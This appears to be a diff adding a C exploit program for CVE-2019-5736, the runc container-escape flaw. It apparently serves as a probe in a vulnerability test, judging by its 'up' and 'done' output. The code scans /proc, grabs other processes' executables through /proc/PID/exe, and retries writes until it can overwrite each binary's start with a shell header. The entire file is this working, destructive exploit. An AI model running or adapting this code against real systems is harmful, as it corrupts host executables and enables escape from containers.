@@ -1,0 +1,55 @@
+// CVE-2019-5736: for some seconds, opens the executable of every other process it can see and tries to write to it.
+// Usage: overwrite-exe SECONDS. Prints "overwritten NAME" for each success, "done" at the end.
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+
+static void attack(const char *pid, const struct stat *own) {
+  char path[300], link[256];
+  snprintf(path, sizeof path, "/proc/%s/exe", pid);
+  ssize_t length = readlink(path, link, sizeof link - 1);
+  int held = open(path, O_PATH);
+  if (held < 0) return;
+  struct stat found;
+  char again[64];
+  snprintf(again, sizeof again, "/proc/self/fd/%d", held);
+  if (fstat(held, &found) == 0 && (found.st_ino != own->st_ino || found.st_dev != own->st_dev)) {
+    link[length > 0 ? length : 0] = 0;
+    // The process has to end before its file can be written (ETXTBSY), so the attack keeps asking for a while.
+    for (int attempt = 0; attempt < 2000; attempt++) {
+      int file = open(again, O_WRONLY);
+      if (file >= 0) {
+        if (!strstr(link, "busybox") && write(file, "#!/bin/sh\n", 10) == 10) printf("overwritten %s\n", link);
+        close(file);
+        break;
+      }
+      if (errno != ETXTBSY) break;
+      usleep(100);
+    }
+  }
+  close(held);
+}
+
+int main(int argc, char **argv) {
+  struct stat own;
+  if (argc != 2 || stat("/proc/self/exe", &own) != 0) return 2;
+  puts("up");
+  fflush(stdout);
+  time_t end = time(NULL) + atoi(argv[1]);
+  while (time(NULL) < end) {
+    DIR *proc = opendir("/proc");
+    if (!proc) return 2;
+    for (struct dirent *entry = readdir(proc); entry; entry = readdir(proc))
+      if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') attack(entry->d_name, &own);
+    closedir(proc);
+  }
+  puts("done");
+  return 0;
+}
